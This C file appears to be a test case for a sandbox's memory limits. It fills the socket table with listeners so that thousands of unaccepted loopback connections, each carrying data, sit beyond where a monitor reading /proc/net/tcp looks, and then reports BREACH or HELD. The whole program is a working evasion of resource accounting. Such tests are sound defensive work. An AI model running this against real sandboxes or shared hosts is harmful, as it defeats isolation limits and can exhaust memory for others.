// title: Hides connections that it never accepts behind listening sockets
// how: A connection that waits to be accepted is charged to nobody, and is counted from outside. With more listening
//   sockets than whoever counts looks through, those behind them can have any number.
// without: memory
// limits: memory=64M network=localhost
// expect: memory_limit
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define PROCESSES 10
#define LISTENERS 240
// Where the list of sockets is looked at no more, at the latest.
#define FAR (280 << 10)

static int listen_at(struct sockaddr_in *address, int backlog) {
    socklen_t length = sizeof *address;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (listener < 0 || listen(listener, backlog) != 0 || getsockname(listener, (struct sockaddr *)address, &length) != 0)
        return -1;
    address->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return listener;
}

// How far behind the beginning of the list a listening socket stands.
static long place_of(const struct sockaddr_in *address) {
    char line[512], wanted[16];
    snprintf(wanted, sizeof wanted, ":%04X 0", ntohs(address->sin_port));
    FILE *list = fopen("/proc/self/net/tcp", "r");
    long place = 0, found = -1;
    while (list != NULL && found < 0 && fgets(line, sizeof line, list) != NULL) {
        place += (long)strlen(line);
        if (strstr(line, wanted) != NULL)
            found = place;
    }
    if (list != NULL)
        fclose(list);
    return found;
}

int main(void) {
    static char block[12000];
    struct sockaddr_in address;
    int ready[2], made = 0;
    if (pipe(ready) != 0)
        return 1;
    for (int process = 0; process < PROCESSES; process++)
        if (fork() == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            for (int index = 0; index < LISTENERS; index++)
                listen_at(&address, 1);
            if (write(ready[1], "", 1) == 1)
                pause();
            _exit(1);
        }
    for (int process = 0; process < PROCESSES; process++)
        if (read(ready[0], block, 1) != 1)
            return 1;
    for (int tries = 0, used = 0; tries < 200 && used < 3; tries++) {
        if (listen_at(&address, 4096) < 0)
            break;
        if (place_of(&address) < FAR)
            continue;
        used++;
        for (int each = 0; each < 3000; each++) {
            int client = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            if (connect(client, (struct sockaddr *)&address, sizeof address) == 0 || errno == EINPROGRESS)
                made += write(client, block, sizeof block) > 0;
            close(client);
        }
    }
    printf("%s %d connections with what was sent over them\n", made > 5000 ? "BREACH" : "HELD", made);
    return 0;
}
